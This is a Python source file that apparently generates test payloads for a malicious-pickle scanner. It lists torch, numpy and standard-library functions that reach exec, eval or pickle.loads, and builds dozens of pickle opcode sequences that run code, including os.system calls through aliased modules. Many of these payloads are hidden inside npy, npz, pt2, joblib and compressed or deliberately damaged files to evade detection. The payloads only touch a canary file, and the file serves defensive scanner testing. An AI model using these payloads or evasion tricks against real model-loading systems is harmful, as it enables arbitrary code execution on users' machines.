"""Payloads that no table of attacks has: calls of functions that nobody has reviewed, and ways to hide a call.

None of these is to be called safe. `RUNNERS` are functions of torch, numpy and Python that pass an argument on to exec,
eval, open, import_module, pickle.loads or a compiler, as a search of their sources found them.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import zlib
from collections.abc import Callable

import numpy as np
from attacks.assemble import (
    DATA,
    Member,
    called,
    dotted,
    dtype,
    listed,
    mapped,
    members,
    name,
    number,
    numbers,
    pickled,
    raw,
    several,
    text,
    zipped,
)

RUNNERS = [
    (module, name)
    for line in """
    torch._guards Source.get_value ChainedSource.get_value
    torch compile
    torch._utils _augment_memory_snapshot_stack_traces
    torch._library.fake_profile save_op_profiles load_op_profiles
    torch.nn.modules.module Module.load_state_dict
    torch.nn.attention._fa3 _fa3_import_module
    torch.nn.attention._fa4 _fa4_import_module
    torch.nn.utils._deprecation_utils lazy_deprecated_import
    torch._functorch.compilers get_inputs _save_fx_default
    torch._functorch.benchmark_utils get_chrome_trace_events
    torch._functorch._aot_autograd.subclass_codegen _compile_and_exec_source
    torch._functorch._aot_autograd.aot_autograd_result GenericAOTAutogradResult._load_and_post_compile
    torch._export.serde.serialize _reconstruct_fake_tensor
    torch.xpu.memory _dump_snapshot
    torch.export._trace _non_strict_export
    torch.export._draft_export get_loc
    torch.export.pt2_archive._package PT2ArchiveWriter.write_file _load_payload_config
    torch.onnx._internal.torchscript_exporter.onnx_proto_utils load_test_case export_data
    torch.onnx._internal.exporter._reporting create_torch_export_error_report create_onnx_export_report
    torch._strobelight.compile_time_profiler get_fburl
    torch.fx.operator_schemas _torchscript_type_to_python_type
    torch.fx.graph_module reduce_package_graph_module
    torch.fx.experimental.proxy_tensor fake_signature
    torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_symexpr ShapeEnv.deserialize_symexpr
    torch.multiprocessing.spawn _wrap
    torch.profiler._cupti_monitor _open_binary_append
    torch.profiler._memory_profiler MemoryProfileTimeline.export_memory_timeline_raw
    torch.profiler._memory_profiler MemoryProfileTimeline.export_memory_timeline_html
    torch.profiler._cupti_monitor_trace _annotation_to_args
    torch._higher_order_ops.utils _hop_compile_and_call
    torch.cuda._annotate_cuda_graph_trace load_trace save_trace
    torch.cuda.tunable tune_gemm_in_file
    torch.cuda.memory _dump_snapshot _save_segment_usage _save_memory_usage
    torch.jit._serialization get_flatbuffer_module_info
    torch.jit.annotations _eval_no_call
    torch._logging._internal _get_module_and_submodules
    torch.distributed._serialization _PseudoZipFile.read_from
    torch.distributed.debug._frontend fetch_aiohttp format_json
    torch.distributed.elastic.agent.server.api _RoleInstanceInfo.deserialize SimpleElasticAgent._assign_worker_ranks
    torch.distributed.elastic.events.api Event.deserialize RdzvEvent.deserialize
    torch.distributed.elastic.utils.process_state read_proc_state
    torch.distributed._tools.memory_tracker MemoryTracker.show_traces MemoryTracker.save_stats
    torch.distributed.pipelining.schedules PipelineScheduleMulti._dump_csv
    torch.distributed.pipelining.schedules PipelineScheduleMulti._load_csv
    torch.distributed.pipelining.schedules _PipelineScheduleRuntime._load_csv
    torch.distributed.pipelining.schedules _PipelineScheduleRuntime._dump_csv
    torch.distributed.pipelining.schedules _dump_chrometrace
    torch.distributed.checkpoint._consolidate_hf_safetensors _process_output_file
    torch.distributed.checkpoint.format_utils torch_save_to_dcp
    torch.distributed.checkpoint._fsspec_filesystem FileSystem.create_stream
    torch.distributed.checkpoint.default_planner DefaultLoadPlanner.load_bytes
    torch.distributed.checkpoint.filesystem FileSystem.create_stream
    torch.distributed.checkpoint._experimental.checkpoint_reader CheckpointReader._partial_read
    torch.distributed.tensor.debug._comm_mode CommDebugMode.generate_json_dump
    torch.distributed.tensor.debug._comm_mode CommDebugMode.log_comm_debug_tracing_table_to_file
    torch.distributed.flight_recorder.fr_trace main
    torch.distributed.flight_recorder.components.loader read_dump
    torch._dynamo.debug_utils NNModuleToString._can_emit_module_constructor
    torch._dynamo.symbolic_convert _import_module
    torch._dynamo.eval_frame OptimizedModule._save_aot_compiled_module
    torch._dynamo.guards GuardBuilder.get_guard_manager_from_source
    torch._dynamo.guards GuardsStatePickler._unpickle_python_module
    torch._dynamo.guards GuardsStatePickler._unpickle_nested_function
    torch._dynamo.guards recompilation_reason_for_no_tensor_aliasing_guard
    torch._dynamo.guards guard_error_hook
    torch._dynamo.package load_guards_state DiskDynamoStore.read DiskDynamoCache.load_and_install_package
    torch._dynamo.dynamo_profiler DynamoProfilerState.generate_svg
    torch._dynamo.functional_export dynamo_graph_capture_for_export
    torch._dynamo.pgo _hash_containing_file
    torch._dynamo.convert_frame replay
    torch._dynamo.funcname_cache _add_file
    torch._dynamo.aot_compile AOTCompilePickler._unpickle_module
    torch._dynamo.aot_compile AOTCompilePickler._unpickle_nested_function
    torch._dynamo.aot_compile AOTCompiledModel.deserialize
    torch._dynamo.aot_compile_types GraphModuleSerializableCallable.deserialize_compile_artifacts
    torch._dynamo.aot_compile_types BundledAOTAutogradSerializableCallable.deserialize_compile_artifacts
    torch._dynamo.utils write_record_to_file import_submodule
    torch._dynamo.repro.after_aot generate_standalone_repro
    torch._dynamo.polyfills.heapq import_fresh_module
    torch._dynamo.variables.builtin BuiltinVariable._constant_eval_result
    torch._dynamo.backends.distributed DDPOptimizer.compile_fn
    torch._native.ops.topk.cutedsl_kernels _compile_topk_radix _compile_topk_register
    torch._native.ops.bmm_outer_product.triton_kernels _bmm_outer_product_kernel
    torch.utils._content_store ContentStoreReader.read_storage
    torch.utils._pytree _json_to_treespec treespec_loads
    torch.utils._cpp_embed_headers read_file
    torch.utils._get_clean_triton process_file
    torch.utils.hipify.hipify_python openf GeneratedFileCleaner.open
    torch.utils.data.datapipes.gen_pyi parse_datapipe_file
    torch.utils.data.datapipes.utils.common get_file_binaries_from_pathnames
    torch.utils.jit.log_extract extract_ir
    numpy.random._examples.cffi.parse parse_distributions_h
    numpy._core.function_base add_newdoc
    numpy.ma.mrecords openfile
    numpy.lib._format_impl read_array
    numpy.lib._datasource open Repository.open
    numpy.lib.introspect opt_func_info
    numpy.lib._utils_impl _makenamedict
    numpy.lib._npyio_impl _read
    numpy.core _ufunc_reconstruct
    optparse Values.read_module Values.read_file
    xml.dom.expatbuilder parse parseFragment
    xml.dom.xmlbuilder DOMEntityResolver.resolveEntity
    xml.etree.ElementInclude default_loader
    xml.etree.ElementTree _get_writer
    re._compiler compile
    email.generator Generator._compile_re BytesGenerator._compile_re
    """.strip().splitlines()
    for module, *names in [line.split()]
    for name in names
]


def code(canary: str) -> bytes:
    return text(f"open({canary!r}, 'w').close()")


def reference(canary: str) -> bytes:
    """An annotation that is code."""
    return called(name("typing", "ForwardRef"), text(f"open({canary!r}, 'w')"))


def evaluated(canary: str) -> bytes:
    return called(name("typing", "_eval_type"), reference(canary), mapped(), mapped())


def bound(owner: bytes, attribute: str) -> bytes:
    return called(name("builtins", "getattr"), owner, text(attribute))


NONE, TRUE = b"N", b"\x88"
NAMESPACE = name("argparse", "Namespace") + b")\x81"
EVAL_TYPE = name("typing", "_eval_type")
# By name, the opcodes of a payload.
HIDDEN: dict[str, Callable[[str], bytes]] = {
    "a function of a package": lambda c: called(name("invoke", "run"), text(f"touch {c}")),
    "an annotation": evaluated,
    "a module under another name": lambda c: called(dotted("enum", "bltns.eval"), code(c)),
    "a module with an underscore": lambda c: called(dotted("random", "_os.system"), text(f"touch {c}")),
    "all modules": lambda c: called(dotted("collections", "_sys.modules.get"), text("os")),
    "types of another module": lambda c: called(dotted("dataclasses", "types.FunctionType"), NAMESPACE, mapped()),
    "a module in torch": lambda c: called(dotted("torch.serialization", "os.system"), text(f"touch {c}")),
    "computed bytes.": lambda c: called(
        name("torch.storage", "_load_from_bytes"),
        called(dotted("builtins", "bytes.fromhex"), text(pickled(evaluated(c)).hex())),
    ),
    "bytes in bytes": lambda c: called(name("torch.storage", "_load_from_bytes"), raw(pickled(evaluated(c)))),
    "what a call returned": lambda c: called(
        called(name("functools", "partial"), EVAL_TYPE), reference(c), mapped(), mapped()
    ),
    "what getattr returned": lambda c: called(bound(name("typing", "ForwardRef"), "evaluate"), reference(c)),
    "an object of another class that is called": lambda c: called(
        called(name("operator", "methodcaller"), text("run"), text(c)), name("invoke", "context")
    ),
    "INST without arguments": lambda c: b"(iinvoke\nmain\n",
    "INST": lambda c: b"(" + text(c) + b"iinvoke\nrun\n",
    "OBJ without arguments": lambda c: b"(" + name("invoke", "main") + b"o",
    "OBJ": lambda c: b"(" + name("invoke", "run") + text(c) + b"o",
    "a state for __setstate__": lambda c: (
        NAMESPACE + mapped(text("__setstate__"), called(name("functools", "partial"), EVAL_TYPE)) + b"b"
        + reference(c) + b"b"
    ),
    "a method that adds": lambda c: (
        NAMESPACE + mapped(text("append"), bound(name("typing", "ForwardRef"), "_evaluate")) + b"b"
        + reference(c) + b"a"
    ),
    "a method that extends": lambda c: (
        NAMESPACE + mapped(text("extend"), called(name("functools", "partial"), name("invoke", "run"))) + b"b("
        + text(c) + b"e"
    ),
    "a method that adds to a set": lambda c: (
        NAMESPACE + mapped(text("add"), called(name("functools", "partial"), name("invoke", "run"))) + b"b("
        + text(c) + b"\x90"
    ),
    "a class of its own choice": lambda c: NAMESPACE + several(NONE, mapped(text("__class__"), EVAL_TYPE)) + b"b",
    "a universal function": lambda c: called(
        called(name("numpy.core", "_ufunc_reconstruct"), text("os"), text("system")), text(f"touch {c}")
    ),
    "a universal function of today": lambda c: called(name("numpy._core", "_ufunc_reconstruct"), text("a"), text("b")),
    "a rebuilder that calls another": lambda c: called(
        name("torch._tensor", "_rebuild_from_type_v2"), EVAL_TYPE, name("torch", "Tensor"),
        several(reference(c), mapped(), mapped()), mapped(),
    ),
    "a rebuilder that calls what a call returned": lambda c: called(
        name("torch._tensor", "_rebuild_from_type_v2"), called(name("functools", "partial"), EVAL_TYPE),
        name("torch", "Tensor"), several(reference(c), mapped(), mapped()), mapped(),
    ),
    "a reconstructor of a type": lambda c: called(
        name("numba.core.types.abstract", "_type_reconstructor"), EVAL_TYPE,
        several(reference(c), mapped(), mapped()), mapped(),
    ),
    "an iterator that calls": lambda c: called(
        name("builtins", "list"),
        called(name("builtins", "iter"), called(name("functools", "partial"), EVAL_TYPE), b"N"),
    ),
    "an argument of a storage": lambda c: several(
        text("storage"), evaluated(c), text("0"), text("cpu"), number(6)
    ) + b"Q",
    "a key": lambda c: b"}" + evaluated(c) + b"Ns",
    "a call that is thrown away": lambda c: evaluated(c) + b"0N",
    "copyreg": lambda c: called(name("copyreg", "_reconstructor"), EVAL_TYPE, EVAL_TYPE, reference(c)),
    "a pickle that breaks behind": lambda c: evaluated(c) + b"\xff",
    "a class by type": lambda c: called(name("builtins", "type"), text("A"), several(), mapped()),
    "a file of times": lambda c: called(name("dateutil.tz.tz", "tzfile"), text(c)),
    "a type by getitem": lambda c: called(name("_operator", "getitem"), NAMESPACE, text(c)),
    "a memo": lambda c: EVAL_TYPE + b"q\x000h\0" + several(reference(c), mapped(), mapped()) + b"R",
    "a frame": lambda c: b"\x95" + len(evaluated(c)).to_bytes(8, "little") + evaluated(c),
}  # fmt: skip


def numpy_file(descr: str, rest: bytes) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}\n".encode()
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + rest


def wrapper(code: str, count: int, *, padded: bool = True) -> bytes:
    """The object that stands for an array in a pickle of joblib."""
    state = mapped(
        text("subclass"), name("numpy", "ndarray"), text("shape"), numbers(count), text("order"), text("C"),
        text("dtype"), dtype(code), text("allow_mmap"), TRUE,
        *((text("numpy_array_alignment_bytes"), number(16)) if padded else ()),
    )  # fmt: skip
    return name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"


SOUND = pickled(mapped(text("a"), number(1)))
STOP = b"..\x80\x02.." * 2
# By name: of a pickle that runs something, a file with it, and the name of the file.
FILES: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "alone": ("x.bin", lambda evil: evil),
    **{
        f"after {first!r}": ("x.bin", lambda evil, first=first: first + evil[2:])  # type: ignore[misc]
        for first in (
            b"I1\n0", b"N0", b"(1", b"]0", b"F1.0\n0", b"K\x010", b"\x880", b"U\x01x0", b"V\n0", b"L1L\n0", b")0"
        )
    },
    "second, of an odd beginning": ("x.pkl", lambda evil: SOUND + b"N0" + evil[2:]),
    "third, behind an odd one": ("x.pkl", lambda evil: SOUND + b"I1\n." + evil),
    "second, of protocol 0": ("x.pkl", lambda evil: pickle.dumps([1], 0) + b"I1\n0" + evil[2:]),
    "gzip": ("x.bin", lambda evil: gzip.compress(SOUND + b"N0" + evil[2:])),
    "bzip2": ("x.bin", lambda evil: bz2.compress(b"N0" + evil[2:])),
    "xz": ("x.bin", lambda evil: lzma.compress(b"I1\n0" + evil[2:])),
    "lzma": ("x.bin", lambda evil: lzma.compress(evil, lzma.FORMAT_ALONE)),
    "zlib": ("x.bin", lambda evil: zlib.compress(b"(1" + evil[2:])),
    "behind much": ("x.bin", lambda evil: b"N0" * (1 << 20) + evil[2:]),
    **{
        f"an array of {descr}": ("x.npy", lambda evil, descr=descr: numpy_file(descr, evil))  # type: ignore[misc]
        for descr in (
            "'|O'", '"|O"', "'O'", "'O8'", r"'\x7cO'", "'object'", "'|' 'O'", "[('a', '|O')]", "'i4,O'", "('|O', (1,))",
            "[('a', [('b', 'O')])]", "'>O'", "'=O'", "b'O'", "'O4'", "'object_'",
        )
    },
    "an archive of numpy with a data.pkl": ("x.npz", lambda evil: zipped(
        [Member("a/data.pkl", SOUND), Member("a/version", b"3\n"), Member("a/data/0", numpy_file("'|O'", evil))]
    )),
    "an archive of numpy beside a state": ("x.pt", lambda evil: zipped(
        [*members(SOUND), Member("archive/y.npy", numpy_file("'|O'", evil))]
    )),
    "an archive of torch.export": ("x.pt2", lambda evil: zipped([
        Member("m/archive_format", b"pt2"), Member("m/models/model.json", b"{}"),
        Member("m/data/constants/custom_obj_0", evil), Member("m/data/weights/weight_0", DATA),
    ])),
    "joblib, behind an array": ("x.joblib", lambda evil: (
        b"\x80\x02" + mapped(text("a"), wrapper("f8", 3) + b"\x02\xff\xff" + STOP + STOP, text("b"), evil[2:-1]) + b"."
    )),
    "joblib, without padding": ("x.joblib", lambda evil: (
        b"\x80\x02" + listed(wrapper("u1", len(STOP), padded=False) + STOP, evil[2:-1]) + b"."
    )),
    "joblib, in an array of objects": ("x.joblib", lambda evil: (
        b"\x80\x02" + listed(wrapper("O8", 1) + evil, text("more")) + b"."
    )),
    "joblib, in the bytes of an array": ("x.joblib", lambda evil: (
        b"\x80\x02" + wrapper("u1", len(evil) - 2, padded=False) + evil[2:] + b"."
    )),
    "joblib, compressed": ("x.joblib", lambda evil: zlib.compress(
        b"\x80\x02" + listed(wrapper("u1", len(STOP)) + b"\0" + STOP, evil[2:-1]) + b"."
    )),
    **{
        f"called {file}": (file, lambda evil: evil)
        for file in (
            "model.safetensors.index.json", "latest", "latest_universal", "__0_0.distcp", ".metadata", "a.virtual.json",
            "model.safetensors", "x.index.json", "readme.md",
        )
    },
}  # fmt: skip


def damaged_member(content: bytes) -> bytes:
    """An archive whose deflated member goes on with what cannot be inflated."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = squeezer.compress(content) + squeezer.flush(zlib.Z_FULL_FLUSH) + b"\xff" * 9000
    plain = bytearray(zipped([Member("x.pkl", packed, local_method=8)]))
    plain[plain.rindex(b"PK\x01\x02") + 10] = 8
    return bytes(plain)


SQUEEZED = {"gzip": gzip.compress, "bzip2": bz2.compress, "xz": lzma.compress, "zlib": zlib.compress}
# By name: of a pickle that runs something, a file that Python's readers unpack up to that pickle's end.
COMPRESSED: dict[str, Callable[[bytes], bytes]] = {
    **{
        f"{how}, after {first[:10]!r}": lambda evil, squeeze=squeeze, first=first: squeeze(
            first + evil[2:] + bytes(600)
        )
        for how, squeeze in SQUEEZED.items()
        for first in (b"N0", b"N0" * 300, SOUND + b"I1\n0")
    },
    **{
        f"{how}, before bytes": lambda evil, squeeze=squeeze: squeeze(evil) + b"bytes"
        for how, squeeze in SQUEEZED.items()
    },
    **{
        f"{how}, before zeros": lambda evil, squeeze=squeeze: squeeze(evil) + bytes(9)
        for how, squeeze in SQUEEZED.items()
    },
    **{f"{how}, cut short": lambda evil, squeeze=squeeze: squeeze(evil)[:-3] for how, squeeze in SQUEEZED.items()},
    "gzip with a wrong checksum": lambda evil: gzip.compress(evil)[:-8] + bytes(8),
    "gzip, behind a stream and zeros": lambda evil: gzip.compress(SOUND) + bytes(9) + gzip.compress(evil),
    "lzma of another dictionary": lambda evil: lzma.compress(
        evil, lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 3 << 13, "lc": 0}]
    ),
    "a member that is damaged behind it": damaged_member,
}


def joblib_file() -> bytes:
    """A sound pickle of joblib, as joblib 1.5 writes it: the bytes of its arrays have the opcode that ends a pickle."""
    out = io.BytesIO()
    out.write(b"\x80\x02" + b"](" + wrapper("u1", len(STOP)) + b"\x01\xff" + STOP)
    out.write(wrapper("f8", 4) + b"\x00" + np.arange(4.0).tobytes() + b"e.")
    return out.getvalue()
